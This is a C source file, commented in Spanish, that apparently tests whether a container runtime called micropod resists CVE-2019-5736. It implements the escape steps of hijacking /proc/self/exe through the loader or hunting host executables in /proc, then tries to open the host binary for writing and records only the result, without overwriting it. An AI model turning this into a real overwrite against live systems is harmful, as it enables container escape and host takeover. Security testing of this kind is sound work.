// reescribe.c: el ataque de CVE-2019-5736, sin llegar a escribir.
//
// Se planta en la imagen dos veces: como cargador de programas dinámicos y como `/bin/reescribe`. Un
// guion `#!/proc/self/exe` hace que el kernel ejecute dentro el micropod de fuera; si es dinámico, su
// cargador es este programa, y aquí /proc/self/exe es el fichero de verdad. Si es estático, hay que
// cazarlo mientras corre: `reescribe caza`, de PID 1, mira todos los /proc/PID/exe.
//
// Con un descriptor del fichero en la mano, espera a que nadie lo ejecute y lo abre para escribir.
// Apunta en /resultado lo que dijo el kernel: ABIERTO o el nombre del error.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void duerme(long ms) {
    struct timespec t = {ms / 1000, ms % 1000 * 1000000};
    nanosleep(&t, 0);
}

static void apunta(const char *que) {
    int f = open("/resultado.tmp", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (write(f, que, strlen(que)) > 0) rename("/resultado.tmp", "/resultado");
}

// Quien lo lee, lo lee desde fuera, y con el PID 1 se acaba el contenedor.
static void acaba(const char *que) {
    apunta(que);
    duerme(60000);
    _exit(0);
}

static void intenta(int fd) {
    char ruta[64];
    snprintf(ruta, sizeof ruta, "/proc/self/fd/%d", fd);
    for (int i = 0; i < 1000; i++) {
        int f = open(ruta, O_WRONLY | O_CLOEXEC);
        if (f >= 0) acaba("ABIERTO");
        if (errno != ETXTBSY) acaba(strerrorname_np(errno));
        duerme(10);
    }
    acaba("ETXTBSY");
}

// Espera a que aparezca un proceso cuyo ejecutable no sea de la imagen.
static int caza(void) {
    struct stat de_la_imagen, s;
    stat("/bin/busybox", &de_la_imagen);
    for (;;) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            char ruta[300];
            if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
            snprintf(ruta, sizeof ruta, "/proc/%s/exe", e->d_name);
            int f = open(ruta, O_RDONLY | O_CLOEXEC);
            if (f < 0) continue;
            if (!fstat(f, &s) && s.st_dev != de_la_imagen.st_dev) return f;
            close(f);
        }
        if (d) closedir(d);
    }
}

int main(int argc, char **argv) {
    if (argc > 1 && strcmp(argv[1], "caza") == 0) {
        int f = caza();
        apunta("CAZADO");
        intenta(f);
    }
    if (argc > 2 && strcmp(argv[1], "intenta") == 0) intenta(atoi(argv[2]));
    // soy el cargador: /proc/self/exe es micropod. Me quedo con él y dejo de ejecutarlo.
    int f = open("/proc/self/exe", O_RDONLY);
    char numero[16];
    snprintf(numero, sizeof numero, "%d", f);
    if (f >= 0 && fork() == 0) {
        setsid();
        char *args[] = {"reescribe", "intenta", numero, 0}, *env[] = {0};
        execve("/bin/reescribe", args, env);
    }
    return 0;
}
